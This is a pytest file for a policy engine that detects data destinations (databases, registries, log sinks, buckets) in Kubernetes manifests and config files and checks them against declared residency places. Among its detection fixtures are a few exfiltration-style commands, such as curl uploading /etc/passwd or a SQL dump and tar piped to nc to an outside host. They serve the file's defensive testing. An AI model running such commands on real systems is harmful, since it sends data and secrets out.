"""A public name, address or image is a data flow wherever it stands; what is none of them needs no place."""

import json
import re
from base64 import b64encode
from typing import Any

import pytest

from policies.engine import ENGINE_POLICIES
from tests.support.foreign import PLACE, deployment, kube, release
from tests.support.policy import UNKNOWN, Resource, violations

CHART = "oci://registry.example.no/charts/app"
ABROAD = "prod.abc123.us-east-1.rds.amazonaws.com"


def said(*resources: Resource, **config: Any) -> list[str]:
    settings = {"places": [PLACE], **config}
    found = violations(ENGINE_POLICIES, list(resources), {"residency-destinations": settings})
    return [violation.message for violation in found if violation.policy == "residency-destinations"]


def variables(**env: Any) -> Resource:
    """A Deployment whose container has these variables."""
    container = {
        "name": "web",
        "image": "registry.example.no/web",
        "env": [{"name": n, "value": v} for n, v in env.items()],
    }
    return kube("apps/v1", "Deployment", "web", "agency", spec={"template": {"spec": {"containers": [container]}}})


def arguments(*args: str) -> Resource:
    container = {"name": "web", "image": "registry.example.no/web", "args": list(args)}
    return kube("apps/v1", "Deployment", "web", "agency", spec={"template": {"spec": {"containers": [container]}}})


def config(**data: str) -> Resource:
    return kube("v1", "ConfigMap", "c", "agency", data={name.replace("__", "."): text for name, text in data.items()})


def custom(kind: str = "App", **spec: Any) -> Resource:
    return kube("a.example.no/v1", kind, "d", "agency", spec=spec)


VARIABLES = {
    "DB_HOST": ABROAD,
    "PGHOST": ABROAD,
    "REDIS_HOST": "master.cache.use1.cache.amazonaws.com",
    "SMTP_SERVER": "smtp.sendgrid.net:587",
    "KAFKA_BROKERS": "pkc-4r297.us-east-1.aws.confluent.cloud:9092",
    "KAFKA_BOOTSTRAP_SERVERS": "a.aws.confluent.cloud:9092,b.aws.confluent.cloud:9092",
    "OTEL_EXPORTER_OTLP_ENDPOINT": "otlp.nr-data.net:4317",
    "DD_SITE": "datadoghq.com",
    "S3_ENDPOINT": "s3.us-east-1.amazonaws.com",
    "ELASTICSEARCH_HOSTS": "x.us-east-1.aws.found.io:9243",
    "MONGODB_ADDRESS": "cluster0.abcde.mongodb.net",
    "JDBC_DSN": f"host={ABROAD} port=5432 user=x",
    "AWS_REGION": "us-east-1",
    "S3_BUCKET": "s3://customer-documents",
    "HOST": "db.us.example.com",
    "UPSTREAM": "api.example.com",
    "SETTING": "me:secret@db.example.com:5432/x",
    "MYSQL": "app:pw@tcp(db.example.com:3306)/x",
    "REPOSITORY": "git@github.com:agency/secrets.git",
    "SHELL_DEFAULT": "${DB_HOST:-db.example.com}",
    "ADDRESS": "8.8.8.8",
    "LISTEN_TO": "[2001:4860:4860::8888]:53",
    "LETTERS": "løgg.example.com:443",
    "RESTIC_REPOSITORY": "gs:backups:/",
    "KMS_KEY": "arn:aws:kms:us-east-1:123456789012:key/1",
    "OPENAI_API_KEY": "x",
    "RELATED_IMAGE_POSTGRES": "quay.io/x/y:1",
    "ROOK_CSI_CEPH_IMAGE": "quay.io/x/y:1",
    "STRIMZI_DEFAULT_KAFKA_EXPORTER_IMAGE": "quay.io/x/y:1",
    "IMAGE": "postgres:17",
}


@pytest.mark.parametrize(("name", "value"), VARIABLES.items(), ids=VARIABLES)
def test_a_variable_that_names_somewhere_abroad_is_a_flow(name: str, value: str) -> None:
    assert said(variables(**{name: value}))


NAMES = re.findall(
    r"\w+",
    """
    hostname hosts servers dbHost smtpHost postgresqlHost externalName connectionString addresses endpoints
    bootstrap_servers target upstream site domain proxy mirror server addr url uri endpoint address broker
    brokers dsn jdbcUrl redisHost mysqlHost mongoHost rabbitmqHost kafkaBrokers elasticsearchHost
    opensearchHosts smtpServer smarthost mailHost ldapServer oidcIssuer issuerURL tokenURL webhook
    webhookTarget sinkHost destination remote remoteHost logServer syslogServer fluentHost lokiAddress
    otlpEndpoint collector tracingHost sentryHost pushGateway remoteWrite backupServer s3Host storageEndpoint
    nfsServer ntpServer timeServer dnsServer resolver nameserver registryMirror proxyHost httpProxy upstreams
    peers seeds contactPoints coordinator primary replicaHost master leaderAddress gatewayHost apiServer
    apiHost apiBase baseHost backend backendHost service serviceHost vault vaultAddr consulHost etcdEndpoints
    zookeeper zookeeperConnect natsServers amqpHost mqttBroker ftpHost sftpServer
    """,
)


@pytest.mark.parametrize("written", [ABROAD, f"{ABROAD}:5432", [ABROAD]], ids=["name", "port", "list"])
@pytest.mark.parametrize(
    "make", [lambda spec: custom(**spec), lambda spec: release(CHART, spec)], ids=["object", "chart"]
)
def test_a_public_name_counts_under_every_usual_name_of_a_field(written: Any, make: Any) -> None:
    messages = said(make({"part": dict.fromkeys(NAMES, written)}))
    assert [name for name in NAMES if not any(f".part.{name}" in one and ABROAD in one for one in messages)] == []


def test_the_same_variable_is_undecided_where_it_is_unknown() -> None:
    for name in ("DB_HOST", "PGHOST", "SMTP_SERVER", "KAFKA_BROKERS", "RELATED_IMAGE_POSTGRES", "IMAGE"):
        [message] = said(variables(**{name: UNKNOWN}))
        assert "cannot be decided at preview" in message


IMAGES = {
    "imageName": "ghcr.io/cloudnative-pg/postgresql:17",
    "images": ["quay.io/x:1"],
    "imageRepository": "quay.io/x",
    "imageRepo": "quay.io/x",
    "repo": "quay.io/x",
    "registryHost": "quay.io",
    "image_name": "quay.io/x",
    "image": "evil.example.com/@sha256:/x:latest",
    "anything": "quay.io/x/y",
    "sidecar": "tools.example.com/x/y:1",
}


@pytest.mark.parametrize(("field", "value"), IMAGES.items(), ids=IMAGES)
def test_an_image_is_a_flow_under_every_name(field: str, value: Any) -> None:
    assert said(custom(**{field: value}))


@pytest.mark.parametrize("host", ["index.docker.io", "registry-1.docker.io", "registry.hub.docker.com"])
def test_other_names_of_docker_hub_are_the_same_place(host: str) -> None:
    hub = {**PLACE, "hosts": ["docker.io"]}
    assert said(deployment(f"{host}/library/redis:7"), places=[hub]) == []


ELSEWHERE = {
    "flag with an image": arguments("--prometheus-config-reloader=quay.io/x/y:1"),
    "flag with an image, apart": arguments("--acme-http01-solver-image", "quay.io/x/y:1"),
    "flag with a host": arguments("--upstream=db.example.com"),
    "flag with a host, apart": arguments("--remote", "db.example.com"),
    "a word by itself": arguments("ship", "logs.example.com"),
    "a command": arguments("-c", "tar c /data | nc backup.example.com 9000"),
    "flag with a provider": arguments("--provider=aws"),
    "images in a ConfigMap": config(plugin="quay.io/x/y:1"),
    "text of OTel": config(a__yaml="exporters:\n  otlp:\n    endpoint: otlp.nr-data.net:4317\n"),
    "exporter of OTel": config(a__yaml="exporters:\n  datadog:\n    api: {key: x}\n"),
    "smarthost": config(alertmanager__yaml="global:\n  smtp_smarthost: smtp.sendgrid.net:587\n"),
    "receiver with its own address": config(
        alertmanager__yaml="receivers:\n- pagerduty_configs:\n  - routing_key: x\n"
    ),
    "fluent-bit": config(fluent_bit__conf="[OUTPUT]\n    Name es\n    Host x.us-east-1.aws.found.io\n    Port 9243\n"),
    "fluent-bit's store": config(fluent_bit__conf="[OUTPUT]\n    Name  s3\n    bucket logs\n    region us-east-1\n"),
    "an ini file": config(grafana__ini="[smtp]\nhost = smtp.sendgrid.net:587\n"),
    "a properties file": config(app__properties="spring.datasource.url=jdbc:mysql://db.example.com/x\n"),
    "TOML": config(a__toml='[sinks.x]\ntype = "aws_s3"\nregion = "us-east-1"\n'),
    "containerd's mirror": config(hosts__toml='server = "https://registry-1.docker.io"\n'),
    "a name in a list of lines": config(list="a.example.com\nb.example.com\n"),
    "CloudNativePG": custom("Cluster", backup={"barmanObjectStore": {"destinationPath": "s3://customers/"}}),
    "CloudNativePG at Google": custom("Cluster", backup={"barmanObjectStore": {"destinationPath": "gs://customers/"}}),
    "Percona": custom(backup={"storages": {"a": {"type": "gcs", "gcs": {"bucket": "b"}}}}),
    "Loki": custom(storage={"s3": {"region": "us-east-1"}}),
    "Thanos": config(objstore__yml="type: GCS\nconfig:\n  bucket: b\n"),
    "a bucket of S3": custom(backup={"s3": {"bucket": "customers"}}),
    "an account of Azure": custom(backup={"azure": {"storageAccount": "customers"}}),
    "Velero's snapshots": kube("velero.io/v1", "VolumeSnapshotLocation", "v", "velero", spec={"provider": "aws"}),
    "a SecretStore": kube("external-secrets.io/v1", "SecretStore", "s", "a", spec={"provider": {"gcpsm": {}}}),
    "a SecretStore at AWS": custom(provider={"aws": {"service": "SecretsManager", "region": "eu-west-1"}}),
    "a SecretStore at Doppler": custom(provider={"doppler": {"auth": {}}}),
    "SecretProviderClass": custom("SecretProviderClass", provider="azure"),
    "EBS": kube("v1", "PersistentVolume", "v", spec={"awsElasticBlockStore": {"volumeID": "v"}}),
    "iSCSI": kube("v1", "PersistentVolume", "v", spec={"iscsi": {"targetPortal": "8.8.8.8:3260"}}),
    "a pod's driver": kube("v1", "Pod", "p", "a", spec={"volumes": [{"csi": {"driver": "file.csi.azure.com"}}]}),
    "DNS-01": custom("ClusterIssuer", acme={"solvers": [{"dns01": {"route53": {"region": "eu-west-1"}}}]}),
    "DNS-01 at Cloudflare": custom("Issuer", acme={"solvers": [{"dns01": {"cloudflare": {"email": "a@b.no"}}}]}),
    "Venafi": custom("Issuer", venafi={"cloud": {"apiTokenSecretRef": {}}}),
    "a login": kube(
        "networking.k8s.io/v1",
        "Ingress",
        "i",
        "a",
        metadata={"annotations": {"nginx.ingress.kubernetes.io/auth-url": "https://login.example.com/x"}},
        spec={"rules": [{"host": "a.example.no"}]},
    ),
    "a tunnel's class": kube("networking.k8s.io/v1", "Ingress", "i", "a", spec={"ingressClassName": "tailscale"}),
    "a tunnel by annotation": kube(
        "v1", "Service", "s", "a", metadata={"annotations": {"tailscale.com/expose": "true"}}, spec={}
    ),
    "a role at AWS": kube(
        "v1",
        "ServiceAccount",
        "s",
        "a",
        metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::123456789012:role/x"}},
    ),
    "an address behind a Service": kube(
        "discovery.k8s.io/v1", "EndpointSlice", "e", "a", endpoints=[{"addresses": ["8.8.8.8"]}]
    ),
    "Istio's ServiceEntry": custom("ServiceEntry", hosts=["db.example.com"]),
    "Envoy Gateway's Backend": custom("Backend", endpoints=[{"fqdn": {"hostname": "db.example.com", "port": 443}}]),
    "a router": kube("metallb.io/v1beta2", "BGPPeer", "p", "metallb-system", spec={"peerAddress": "8.8.8.8"}),
    "clustermesh": custom(config={"clusters": [{"name": "x", "ips": ["8.8.8.8"]}]}),
    "CoreDNS by values": custom(plugins=[{"name": "forward", "parameters": ". 1.1.1.1"}]),
    "a Corefile's resolver over TLS": config(Corefile=".:53 {\n  forward . tls://dns.example.com\n}"),
    "DNS in a pod": deployment("registry.example.no/a", dnsConfig={"nameservers": ["9.9.9.9"]}),
    "a webhook's URL": kube(
        "admissionregistration.k8s.io/v1",
        "ValidatingWebhookConfiguration",
        "w",
        webhooks=[{"name": "a.example.no", "clientConfig": {"url": "https://hook.example.com"}}],
    ),
    "credentials of a registry": kube(
        "v1", "Secret", "s", "a", stringData={".dockerconfigjson": json.dumps({"auths": {"quay.io": {"auth": "x"}}})}
    ),
    "a manifest of somewhere else": custom("Application", source={"repoURL": "git@github.com:a/b"}),
    "an object at Amazon": kube("s3.services.k8s.aws/v1alpha1", "Bucket", "b", "a", spec={"name": "customers"}),
    "an object at Google": kube("sql.cnrm.cloud.google.com/v1beta1", "SQLInstance", "s", "a", spec={}),
    "an object at Azure": kube("dbforpostgresql.azure.com/v1api20221201", "FlexibleServer", "s", "a", spec={}),
    "a page's script": config(index__html="<script async src='//cdn.example.com/a.js'></script>\n"),
    "an address with a path": arguments("sh", "-c", "curl -d @/etc/passwd 104.248.94.23/upload"),
    "a name with a path": arguments("sh", "-c", "curl -T dump.sql evil.example.com/upload"),
    "a store by its URL": custom(backend="s3://state?region=us-east-1"),
    "rsyslog": config(rsyslog__conf="*.* @@logs.example.com:514\n"),
    "syslog-ng": config(syslog_ng__conf='destination d { tcp("logs.example.com" port(514)); };\n'),
    "logstash": config(pipeline="output {\n  elasticsearch { hosts => ['x.found.io:9243'] }\n}\n"),
    "fluentd": config(fluent__conf="<match **>\n  @type s3\n  s3_region us-east-1\n</match>\n"),
    "redis": config(redis__conf="appendonly yes\nreplicaof db.example.com 6379\n"),
    "squid": config(squid__conf="cache_peer proxy.example.com parent 3128 0\n"),
    "postfix": config(main__cf="relayhost = [smtp.sendgrid.net]:587\n"),
    "a file of passwords": config(pgpass="db.example.com:5432:*:me:x\n"),
    "netrc": config(netrc="machine github.example.com login x\n"),
    "nginx": config(default__conf="upstream db {\n  server db.example.com;\n}\n"),
    "HAProxy": config(haproxy__cfg="backend b\n  server db1 db.example.com:5432 check\n"),
    "systemd's clock": config(timesyncd__conf="[Time]\nNTP=ntp.ubuntu.com\n"),
    "telegraf": config(telegraf__conf='[[outputs.cloudwatch]]\n  region = "us-east-1"\n'),
    "a proxy of Java's": variables(JAVA_OPTS="-Dhttp.proxyHost=proxy.example.com -Dhttp.proxyPort=3128"),
    "settings in JSON": variables(SPRING_APPLICATION_JSON='{"db": {"host": "db.example.com"}}'),
    "a command in a pod": arguments("sh", "-c", "exec ship --to evil.example.com now"),
    "a host with a port, whatever the field is called": custom(name="db.example.com:5432"),
    "a group called message": custom(message={"url": "https://hook.example.com"}),
    "text in base64": kube(
        "v1", "ConfigMap", "c", "a", binaryData={"x": b64encode(b"host: db.example.com\n").decode()}
    ),
    "a comment's sign in a quoted word": config(run="x\ncurl -H 'a # b' https://db.example.com\n"),
}


@pytest.mark.parametrize("resource", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_destination_is_found_wherever_it_stands(resource: Resource) -> None:
    assert said(resource)


STAYS = {
    "SERVICE.NAMESPACE": variables(
        LOKI_URL="http://loki.monitoring:3100/loki/api/v1/push",
        OTEL_EXPORTER_OTLP_ENDPOINT="http://otel-collector.observability:4317",
        ENDPOINT="minio-service.main:9000",
        REDIS_URL="redis://redis-master.cache:6379/0",
    ),
    "a store of one's own": variables(S3_ENDPOINT="http://minio.files:9000", AWS_REGION="us-east-1", B="s3://b"),
    "a bucket at one's own store": custom(
        s3={"endpoint": "http://minio.files:9000", "region": "us-east-1", "bucket": "b", "path": "s3://b"}
    ),
    "a comment of an ini file": config(grafana__ini="; see https://grafana.com/docs\n[x]\nkey=1"),
    "a comment at the end of a line": config(a__yaml="key: 1 # see https://docs.example.com\n"),
    "a comment of a script": config(run__sh="set -e # see https://docs.example.com\n# and help.example.com\n"),
    "the schema of a JSON file": config(d__json='{"$schema": "https://json-schema.org/draft-07/schema"}'),
    "groups of the API": kube(
        "rbac.authorization.k8s.io/v1",
        "ClusterRole",
        "r",
        rules=[{"apiGroups": ["cert-manager.io"], "resources": ["certificates"], "verbs": ["get"]}],
    ),
    "a field's path": custom(valueFrom={"fieldRef": {"fieldPath": "metadata.name"}}),
    "names of one's own": kube(
        "cert-manager.io/v1",
        "Certificate",
        "c",
        "a",
        spec={"dnsNames": ["a.example.com"], "commonName": "a.example.com"},
    ),
    "an ingress of a chart": release(
        CHART,
        {"ingress": {"hosts": ["a.example.com"], "tls": [{"hosts": ["a.example.com"]}]}},
    ),
    "who may call": kube("v1", "Service", "s", "a", spec={"loadBalancerSourceRanges": ["8.8.8.0/24"]}),
    "files": arguments("python", "main.py", "--config=/etc/app.conf", "init.sh", "app.properties"),
    "packages of Java": variables(DRIVER_CLASS="org.postgresql.Driver", JAVA_OPTS="-Dcom.sun.management.jmxremote"),
    "attributes of OTel": config(a__yaml="processors:\n  x:\n    keys: [service.name, host.name, k8s.pod.name]\n"),
    "an e-mail address": custom(acme={"email": "ops@example.com"}),
    "a label's key": custom(topologyKey="kubernetes.io/hostname", nodeSelector={"kubernetes.io/os": "linux"}),
    "prose": custom(description="They know example.com well.", message="See https://example.com"),
    "kinds of the API in a script": config(run__sh="set -e\nkubectl get certificates.cert-manager.io -A\n"),
    "documentation in annotations": kube(
        "v1", "ConfigMap", "c", "a", metadata={"annotations": {"artifacthub.io/links": "https://docs.example.com"}}
    ),
    "an image that GitOps fills in": custom(image=None),
    "storage on the nodes": kube("storage.k8s.io/v1", "StorageClass", "s", provisioner="driver.longhorn.io"),
    "files from a driver": kube("v1", "Pod", "p", "a", spec={"volumes": [{"csi": {"driver": "csi.cert-manager.io"}}]}),
    "keys of hosts": config(ssh_known_hosts="github.com ssh-ed25519 AAAA\n[ssh.github.com]:443 ssh-ed25519 AAAA\n"),
    "a route of Traefik": kube(
        "traefik.io/v1alpha1", "IngressRoute", "r", "a", spec={"routes": [{"match": "Host(`a.example.com`)"}]}
    ),
    "a store of one's own by its URL": custom(backend="s3://state?endpoint=minio.files:9000"),
    "the zone of a solver": custom(acme={"solvers": [{"selector": {"dnsZones": ["example.com"]}}]}),
    "a picture": custom(logoImage="logo.png"),
}


@pytest.mark.parametrize("resource", STAYS.values(), ids=STAYS)
def test_what_is_no_destination_needs_no_place(resource: Resource) -> None:
    assert said(resource) == []


def test_a_name_that_may_be_a_service_has_both_remedies() -> None:
    [message] = said(variables(URL="http://grafana.tools"))
    assert "hosts: [grafana.tools]" in message
    assert "if it is a Service, write grafana.tools.svc" in message


def test_a_service_of_the_program_s_own_namespace_stays_although_its_name_is_a_domain() -> None:
    flow = variables(URL="http://minio.storage:9000")
    assert said(flow)
    assert said(flow, kube("v1", "Namespace", "storage")) == []
    chart = release(CHART, {})
    assert said(flow, chart._replace(props={**chart.props, "namespace": "storage"})) == []
    assert said(variables(URL="https://api.com"), kube("v1", "Namespace", "com"))


def test_what_has_no_known_purpose_says_so_and_any_declared_place_holds_it() -> None:
    flow = custom(anything="hub.example.com")
    [message] = said(flow)
    assert "bytes go to hub.example.com (unclassified), which no declared place holds" in message
    assert said(flow, places=[{**PLACE, "hosts": ["hub.example.com"]}]) == []
    [abroad] = said(flow, places=[{**PLACE, "hosts": ["hub.example.com"], "country": "US"}])
    assert "is in US, allowed: NO" in abroad
    [owned] = said(flow, places=[{**PLACE, "hosts": ["hub.example.com"], "entityCountry": "US"}])
    assert "under the law of US" in owned
    image = custom(image="hub.example.com/a:1")
    [other] = said(image, places=[{**PLACE, "hosts": ["hub.example.com"], "purposes": ["unclassified"]}])
    assert "for image-registry, and place 'registry' is declared for unclassified" in other


def text_in_base64(text: str) -> str:
    return b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("flow", "endpoint"),
    [
        (variables(CLOUD_ID=f"acme:{text_in_base64('us-east-1.aws.found.io$abc$def')}"), "us-east-1.aws.found.io"),
        (config(filebeat__yml=f"cloud.id: 'a:{text_in_base64('eu.found.io:443$abc')}'\n"), "eu.found.io"),
        (config(rclone__conf="[remote]\ntype = b2\naccount = x\n"), "backblazeb2.com"),
        (config(rclone__conf="[remote]\ntype = dropbox\n"), "dropbox.com"),
        (variables(RESTIC_REPOSITORY="s3:s3.us-west-1.wasabisys.com/b"), "s3.us-west-1.wasabisys.com"),
        (variables(RESTIC_REPOSITORY="sftp:me@backup.example.com:/b"), "backup.example.com"),
        (config(service__slack="token: $slack-token\n"), "slack.com"),
        (config(service__opsgenie="apiUrl: $x\n"), "api.opsgenie.com"),
        (config(service__pagerdutyv2="serviceKeys: {}\n"), "pagerduty.com"),
        (variables(URL="jdbc:oracle:thin:@//ora.example.com:1521/s"), "ora.example.com"),
        (variables(URL="jdbc:oracle:thin:@ora.example.com:1521:sid"), "ora.example.com"),
        (custom("Image", tag="gcr.io/agency/app"), "gcr.io"),
        (custom("Build", tags=["ghcr.io/agency/app:1"]), "ghcr.io"),
        (variables(SNOWFLAKE_ACCOUNT="xy12345.us-east-1"), "snowflakecomputing.com"),
    ],
)
def test_spellings_of_single_products_are_flows(flow: Resource, endpoint: str) -> None:
    """Written from the products' documentation before the rules were run on them: six of 46 sinks were missed."""
    assert any(f"bytes go to {endpoint} " in message for message in said(flow)), said(flow)


@pytest.mark.parametrize(
    "text",
    ["sha256:0123456789abcdef0123456789abcdef", "a:bm8gaG9zdCBoZXJlIGF0IGFsbA==", "user:aGVsbG8kd29ybGQhIQ=="],
)
def test_a_digest_or_a_password_is_no_cloud_id(text: str) -> None:
    assert said(variables(SETTING=text)) == []
